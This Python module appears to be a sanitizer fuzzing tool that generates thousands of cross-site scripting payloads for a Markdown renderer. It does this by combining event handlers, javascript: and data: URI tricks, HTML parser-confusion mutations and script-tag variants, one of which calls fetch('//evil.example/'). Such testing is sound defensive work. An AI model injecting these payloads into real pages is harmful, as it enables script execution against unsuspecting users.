"""Attacks put together from a grammar of our own, or read from a folder; each wants to run, load, leave or break out.

``XUNZHAN_EXAMPLES`` says how many of the grammar's are used, spread evenly; ``XUNZHAN_PAYLOADS`` names a folder of text
files with a payload a line, which are then used as well.
"""

from __future__ import annotations

import os
from base64 import b64encode
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path

HOST = "evil.example"
CODE = ("alert(1)", "window.__xss=1", f"fetch('//{HOST}/')", "top.__xss=1")
EVENTS = "load error click focus blur mouseover mouseenter pointerdown animationstart transitionend toggle begin wheel "
EVENTS += "keydown input change submit copy paste drag scroll beforetoggle pageshow hashchange message resize canplay"
TAGS = "img svg body video audio details input select textarea button marquee iframe object embed form a div p table "
TAGS += "style link math x-y template dialog keygen isindex source track picture meter image font"
# how an attribute with a handler is written; C is the code, E the event, T the tag
HANDLERS = (
    '<T onE="C">',
    "<T onE='C'>",
    "<T onE=C>",
    "<T/onE=C//",
    "<T\nonE\n=\nC\n>",
    "<T\x0conE=C>",
    '<T x=">" onE="C">',
    '<T src=x:x href=x autofocus open tabindex=1 onE="C">',
    "<T ONE=C x=",
    '<T """onE="C">',
    "<T onE=&#x22;C&#x22;>",
    "</p></div></main><T onE=C>",
)
SCHEMES = (
    "javascript:C",
    "JaVaScRiPt:C",
    "java\tscript:C",
    "java\nscript:C",
    " javascript:C",
    "\x01javascript:C",
    "&#106;avascript:C",
    "&#x6a;&#x61;vascript:C",
    "javascript&colon;C",
    "java&Tab;script:C",
    "java&NewLine;script:C",
    "javascript://a.example/%0aC",
    "vbscript:C",
    "data:text/html,<script>C</script>",
    f"data:text/html;base64,{b64encode(b'<script>top.__xss=1</script>').decode()}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='C'/>",
    f"//{HOST}/a",
    f"https://{HOST}/a",
    f"\\\\{HOST}/a",
    f"https:{HOST}",
    f"blob:https://{HOST}/a",
    "xunzhan:0",
)
# how an address is written; U is the address
ADDRESSES = (
    "[雨](U)",
    "[雨](<U>)",
    '[雨](U "x")',
    "![雨](U)",
    '![雨](U "\\" onerror=\\"alert(1)")',
    "[雨][r]\n\n[r]: U",
    "[r]\n\n[r]: <U> '水'",
    "<U>",
    "[![雨](a.png)](U)",
    '<a href="U">雨</a>',
    "<a href='U' target=_self ping=U>雨</a>",
    "<svg><a xlink:href='U'><text y=9>雨</text></a></svg>",
    "<svg><use href='U#a'/><image href='U'/></svg>",
    "<math><mi href='U'>雨</mi></math>",
    "<iframe src='U'></iframe>",
    "<iframe srcdoc=\"<a href='U'>\"></iframe>",
    "<object data='U'></object><embed src='U'>",
    "<form action='U'><button formaction='U'>雨</button></form>",
    "<meta http-equiv=refresh content='9;url=U'>",
    "<link rel=stylesheet href='U'><link rel=prefetch href='U'><link rel=modulepreload href='U'>",
    "<base href='U'>",
    "<img src='U' srcset='U 2x' lowsrc='U' longdesc='U'>",
    "<video poster='U' src='U'><source src='U'><track src='U'></video>",
    "<table background='U'><td background='U'>雨",
    "<p style=\"background:url('U')\">雨",
    "<style>@import 'U';p{background:url(U)}</style>",
    "<svg><animate attributeName=href values='U' /><set attributeName=href to='U' /></svg>",
    "<portal src='U'></portal><frameset><frame src='U'>",
    "<script src='U'></script>",
)
SCRIPTS = (
    "<script>ⓒ</script>",
    "<SCRIPT\n>ⓒ</SCRIPT\n>",
    "<script/x>ⓒ</script y>",
    "<scr<script>ipt>ⓒ</scr</script>ipt>",
    "<<script>ⓒ//<</script>",
    "<script type=module>ⓒ</script>",
    "<svg><script>ⓒ</script></svg>",
    "<svg><script xlink:href=data:,ⓒ />",
    "<script>/*\n*/ⓒ",
    "\\<script>ⓒ</script>",
    "`<script>`ⓒ</script>",
    "&lt;script&gt;ⓒ&lt;/script&gt;",
    "&#60;script>ⓒ</script>",
    "<script\x0b>ⓒ</script>",
)
# what ends where an HTML parser and a careless one disagree; ⓐ is what wants to be active
OUTER = ("svg", "math", "table", "select", "form", "svg><p", "math><mtext><table", "p><svg")
POINTS = (
    "desc",
    "title",
    "foreignobject",
    "mtext",
    "mi",
    "annotation-xml encoding=text/html",
    "mglyph",
    "td",
    "option",
)
RAW = ("style", "xmp", "noscript", "noembed", "noframes", "textarea", "title", "iframe", "template", "plaintext")
OPENERS = ("<!--</R>ⓐ-->", '<a id="</R>ⓐ">', "<![CDATA[</R>ⓐ]]>", "<!-- --!></R>ⓐ", "</R/x>ⓐ", "<!></R>ⓐ")
ACTIVE = ("<img src=x onerror=alert(1)>", "<svg onload=top.__xss=1>", "<script>window.__xss=1</script>")
BROKEN = (
    '"><ⓐ',
    "'><ⓐ",
    "--><ⓐ",
    "]]><ⓐ",
    "</title><ⓐ",
    "</textarea><ⓐ",
    "</script><ⓐ",
    "</style><ⓐ",
    "<p title='<ⓐ'>",
)
BROKEN += ("<![CDATA[<ⓐ", "<?x <ⓐ ?>", "<!x <ⓐ", "</ <ⓐ", "<a<ⓐ", "<%<ⓐ", "\u0130<ⓐ", "＜ⓐ", "{{'<ⓐ'}}", "{% raw %}<ⓐ")
# where in Markdown a payload stands; P is the payload
CONTEXTS = (
    "P",
    "> P",
    "- P",
    "# P",
    "**P**",
    "`P",
    "[P](https://a.example/)",
    '[雨](https://a.example/ "P")',
    "![P](a.png)",
    "|P|水|\n|-|-|\n|P|P|",
    "雨[^P]\n\n[^P]: P",
    "*[雨]: P",
    "雨\n: P",
    "``` P\nP\n```",
    "~~~ {onclick='C' P}\nP\n~~~",
    "雨{: onclick='C' P}",
    "<div markdown=1>P</div>",
    "<P>",
    "&P;",
)


def _handlers() -> Iterator[str]:
    for form, tag, event, code in product(HANDLERS, TAGS.split(), EVENTS.split(), CODE):
        yield form.replace("T", tag).replace("C", code).replace("E", event)


def _addresses() -> Iterator[str]:
    for form, scheme, code in product(ADDRESSES, SCHEMES, CODE):
        yield form.replace("U", scheme.replace("C", code))


def _mutations() -> Iterator[str]:
    for outer, point, raw, opener, active in product(OUTER, POINTS, RAW, OPENERS, ACTIVE):
        yield f"<{outer}><{point}><{raw}>{opener.replace('/R', '/' + raw).replace('ⓐ', active)}"


def _others() -> Iterator[str]:
    yield from (form.replace("ⓒ", code) for form, code in product(SCRIPTS, CODE))
    yield from (form.replace("ⓐ", active[1:]) for form, active in product(BROKEN, ACTIVE))


def _spread(candidates: list[str], count: int) -> list[str]:
    return (
        candidates
        if count >= len(candidates)
        else [candidates[index * len(candidates) // count] for index in range(count)]
    )


@cache
def payloads(count: int) -> tuple[str, ...]:
    """So many payloads from all parts of the grammar, in turn in every context of Markdown; then those of a folder."""
    parts = [list(make()) for make in (_handlers, _addresses, _mutations, _others)]
    chosen = [payload for part in parts for payload in _spread(part, count // len(parts) + 1)]
    # a number without a common divisor with the contexts, so that every form meets every context
    embedded = (CONTEXTS[index * 7 % len(CONTEXTS)].replace("P", payload) for index, payload in enumerate(chosen))
    return tuple(dict.fromkeys([*chosen, *embedded, *_examples()]))


def _examples() -> Iterator[str]:
    folder = os.environ.get("XUNZHAN_PAYLOADS")
    for path in sorted(Path(folder).rglob("*.txt")) if folder else ():
        yield from (line for line in path.read_text(encoding="utf-8", errors="replace").splitlines() if line.strip())
